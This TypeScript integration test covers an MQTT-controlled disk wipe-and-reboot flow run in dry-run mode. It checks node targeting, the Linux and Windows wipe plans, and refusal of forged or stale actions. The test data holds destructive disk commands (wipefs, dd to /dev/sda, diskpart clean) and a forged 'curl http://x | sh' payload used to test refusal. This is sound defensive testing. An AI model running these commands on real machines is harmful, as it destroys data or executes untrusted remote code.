/**
 * The wipe-and-reboot flow end to end on loopback: a real aedes broker, the box's command
 * service and registry, and node agents run as `node bin/bootbox.mjs agent … --dry-run`
 * child processes. A wipe for node-a reaches only node-a's agent, which prints the wipefs
 * plan and reports back; a Windows-image machine's agent prints the diskpart plan; forged
 * actions are refused; the agent's own errors exit with the registry's codes.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import net from 'node:net';
import path from 'node:path';
import test, { type ExecutionContext } from 'ava';
import type { MqttClient } from 'mqtt';
import { systemClock } from '../../firmware/core/clock.ts';
import { silentLogger } from '../../firmware/core/logger.ts';
import { CommandService } from '../../firmware/telemetry/mqtt/commands.ts';
import { buildWipeAction, formatPlan, type WipeAction } from '../../firmware/telemetry/mqtt/node-actions.ts';
import { connect, nextMessage, startAedes, type TestBroker } from '../helpers/mqtt-brokers.ts';
import { type MachineSpec, registryWith } from '../helpers/mqtt-commands.ts';

const ROOT_DIR = path.resolve(import.meta.dirname, '..', '..');
const BIN = path.join(ROOT_DIR, 'bin', 'bootbox.mjs');
const NODE = process.execPath;
const ROOT = 'bootbox/box1/';
const USERS = { ops: 'ops-pw', 'node-a': 'a-pw', 'node-b': 'b-pw', 'node-w': 'w-pw' };
const A = '52:54:00:00:20:0a';
const W = '52:54:00:00:20:0c';
const MACHINES: MachineSpec[] = [
  { mac: A, name: 'node-a', state: 'deployed', image: 'ubuntu-24.04' },
  { mac: '52:54:00:00:20:0b', name: 'node-b', state: 'deployed', image: 'ubuntu-24.04' },
  { mac: W, name: 'node-w', state: 'deployed', image: 'win11' },
];

interface Agent {
  proc: ChildProcess;
  stdout: string[];
  stderr: string[];
  exit: Promise<number | null>;
  /** Resolves with the first stdout line matching `re` (already printed or to come). */
  line(re: RegExp, timeoutMs?: number): Promise<string>;
}

function agent(t: ExecutionContext, args: string[]): Agent {
  const proc = spawn(NODE, [BIN, 'agent', ...args], { cwd: ROOT_DIR, stdio: ['ignore', 'pipe', 'pipe'] });
  const stdout: string[] = [];
  const stderr: string[] = [];
  const waiters = new Set<() => void>();
  let buf = '';
  proc.stdout!.on('data', (d) => {
    buf += d;
    const parts = buf.split('\n');
    buf = parts.pop()!;
    stdout.push(...parts);
    for (const w of waiters) w();
  });
  proc.stderr!.on('data', (d) => stderr.push(...String(d).split('\n').filter(Boolean)));
  const exit = new Promise<number | null>((resolve) => proc.on('exit', (code) => resolve(code)));
  t.teardown(async () => {
    if (proc.exitCode === null && proc.signalCode === null) {
      proc.kill('SIGTERM');
      await exit;
    }
  });
  return {
    proc,
    stdout,
    stderr,
    exit,
    line: (re, timeoutMs = 20_000) =>
      new Promise((resolve, reject) => {
        const check = () => {
          const hit = stdout.find((l) => re.test(l));
          if (hit === undefined) return false;
          waiters.delete(check);
          clearTimeout(timer);
          resolve(hit);
          return true;
        };
        const timer = setTimeout(() => {
          waiters.delete(check);
          reject(
            new Error(
              `no line ${re} within ${timeoutMs} ms; stdout: ${stdout.join(' | ')}; stderr: ${stderr.join(' | ')}`,
            ),
          );
        }, timeoutMs);
        if (!check()) waiters.add(check);
      }),
  };
}

async function setup(t: ExecutionContext) {
  const broker: TestBroker = await startAedes(USERS);
  t.teardown(() => broker.close());
  const boxPort = broker.boxPort(ROOT);
  const { registry } = await registryWith(t, MACHINES, systemClock);
  const svc = new CommandService({
    port: boxPort,
    registry,
    boxId: 'box1',
    images: () => ['ubuntu-24.04', 'win11'],
    audit: { record: () => {} },
    allow: { reimage: ['ops'] },
    clock: systemClock,
    log: silentLogger,
  });
  await svc.start();
  t.teardown(() => svc.stop());
  const ops: MqttClient = await connect(broker.url, { username: 'ops', password: USERS.ops });
  t.teardown(() => ops.end(true));
  await ops.subscribeAsync([`${ROOT}response/#`, `${ROOT}nodes/+/response`]);
  const start = async (name: keyof typeof USERS) => {
    const a = agent(t, [
      '--mqtt',
      broker.url,
      '--name',
      name,
      '--box',
      'box1',
      '--username',
      name,
      '--password',
      USERS[name],
      '--dry-run',
    ]);
    await a.line(/^bootbox agent ready: /);
    return a;
  };
  return { broker, boxPort, registry, ops, start };
}

test('a wipe for node-a reaches only node-a: it prints the wipefs plan and reports; the machine is reimage-requested', async (t) => {
  const { ops, registry, start, boxPort } = await setup(t);
  const [a, b, w] = await Promise.all([start('node-a'), start('node-b'), start('node-w')]);
  t.is(a.stdout[0], 'bootbox agent ready: bootbox/box1/nodes/node-a/cmd');

  const reportA = nextMessage(ops, `${ROOT}nodes/node-a/response`);
  const answer = nextMessage(ops, `${ROOT}response/reimage`, (x) => x.transaction === 'wipe-a');
  await ops.publishAsync(
    `${ROOT}request/reimage`,
    JSON.stringify({ transaction: 'wipe-a', targets: { name: 'node-a' }, mode: 'wipe' }),
  );
  const { body: r } = await answer;
  t.like(r, { transaction: 'wipe-a', status: 'ok' });
  t.is((r.data as { targets: { nodeAction: string }[] }).targets[0]!.nodeAction, `${ROOT}nodes/node-a/cmd`);
  t.is(registry.get(A)!.state, 'reimage-requested');
  t.is(registry.get(A)!.reimage!.mode, 'wipe');

  const { body: rep } = await reportA;
  t.like(rep, { transaction: 'wipe-a', name: 'node-a', status: 'ok', dryRun: true });
  t.deepEqual(rep.steps, [
    { cmd: 'wipefs --all --force /dev/sda', exit: null },
    { cmd: 'dd if=/dev/zero of=/dev/sda bs=1M count=1 conv=fsync', exit: null },
    { cmd: 'sync', exit: null },
    { cmd: 'reboot', exit: null },
  ]);
  await a.line(/^dry-run:/);
  t.deepEqual(a.stdout.slice(1), [
    'plan wipe-and-reboot box=box1 transaction=wipe-a os=linux disk=/dev/sda',
    'run: wipefs --all --force /dev/sda',
    'run: dd if=/dev/zero of=/dev/sda bs=1M count=1 conv=fsync',
    'run: sync',
    'run: reboot',
    'dry-run: 4 step(s) not run',
  ]);

  // the Windows-image machine gets the diskpart plan
  const reportW = nextMessage(ops, `${ROOT}nodes/node-w/response`);
  await ops.publishAsync(
    `${ROOT}request/reimage`,
    JSON.stringify({ transaction: 'wipe-w', targets: { name: 'node-w' }, mode: 'wipe' }),
  );
  t.like((await reportW).body, { transaction: 'wipe-w', name: 'node-w', status: 'ok', dryRun: true });
  await w.line(/^dry-run:/);
  t.deepEqual(w.stdout.slice(1), [
    'plan wipe-and-reboot box=box1 transaction=wipe-w os=windows disk=0',
    'diskpart: select disk 0',
    'diskpart: clean',
    'diskpart: create partition primary',
    'diskpart: assign letter=C',
    'diskpart: exit',
    'run: diskpart /s <script>',
    'run: shutdown /r /t 5',
    'dry-run: 2 step(s) not run',
  ]);
  t.is(registry.get(W)!.state, 'reimage-requested');

  // node-b: a forged action (altered steps) is refused and reported; it never saw node-a's wipe
  const forged = buildWipeAction({
    box: 'box1',
    transaction: 'evil',
    ts: new Date().toISOString(),
    os: 'linux',
  }) as WipeAction;
  forged.steps = [{ run: ['sh', '-c', 'curl http://x | sh'] }];
  const reportB = nextMessage(ops, `${ROOT}nodes/node-b/response`);
  boxPort.publish(`${ROOT}nodes/node-b/cmd`, forged, { qos: 1 });
  const { body: refused } = await reportB;
  t.like(refused, { transaction: 'evil', name: 'node-b', status: 'error', steps: [] });
  t.is((refused.error as { code: string }).code, 'ACTION_REFUSED');
  await b.line(/^refused: /);
  t.is(b.stdout.filter((l) => l.startsWith('plan ') || l.startsWith('run: ')).length, 0, b.stdout.join('\n'));

  // a stale action is refused too
  const stale = buildWipeAction({
    box: 'box1',
    transaction: 'old',
    ts: new Date(Date.now() - 10 * 60_000).toISOString(),
    os: 'linux',
  }) as WipeAction;
  const reportStale = nextMessage(ops, `${ROOT}nodes/node-b/response`, (x) => x.transaction === 'old');
  boxPort.publish(`${ROOT}nodes/node-b/cmd`, stale, { qos: 1 });
  t.regex(((await reportStale).body.error as { message: string }).message, /s old/);

  // SIGTERM stops an agent cleanly
  a.proc.kill('SIGTERM');
  t.is(await a.exit, 0);
  t.deepEqual(
    formatPlan(buildWipeAction({ box: 'box1', transaction: 'wipe-a', ts: '', os: 'linux' }) as WipeAction),
    a.stdout.slice(1, 6),
  );
});

test('agent errors: a bad URL exits 2, an unreachable broker exits 1, each with a clear message', async (t) => {
  const bad = agent(t, ['--mqtt', 'http://127.0.0.1:1', '--name', 'node-a']);
  t.is(await bad.exit, 2);
  t.regex(bad.stderr.join('\n'), /--mqtt: "http:" is not a broker URL scheme/);

  const closed = net.createServer();
  await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
  const port = (closed.address() as net.AddressInfo).port;
  await new Promise<void>((r) => closed.close(() => r()));
  const unreachable = agent(t, ['--mqtt', `mqtt://127.0.0.1:${port}`, '--name', 'node-a']);
  t.is(await unreachable.exit, 1);
  t.regex(unreachable.stderr.join('\n'), new RegExp(`cannot connect to mqtt://127.0.0.1:${port}: .*ECONNREFUSED`));

  const missing = agent(t, ['--name', 'node-a']);
  t.is(await missing.exit, 2);
  t.regex(missing.stderr.join('\n'), /--mqtt URL is required/);
});

test('agent: a wrong password is a clear connection error (exit 1)', async (t) => {
  const { broker } = await setup(t);
  const a = agent(t, ['--mqtt', broker.url, '--name', 'node-a', '--username', 'node-a', '--password', 'wrong']);
  t.is(await a.exit, 1);
  t.regex(
    a.stderr.join('\n'),
    /cannot connect to mqtt:\/\/127\.0\.0\.1:\d+: .*(Bad username or password|Not authorized)/i,
  );
});
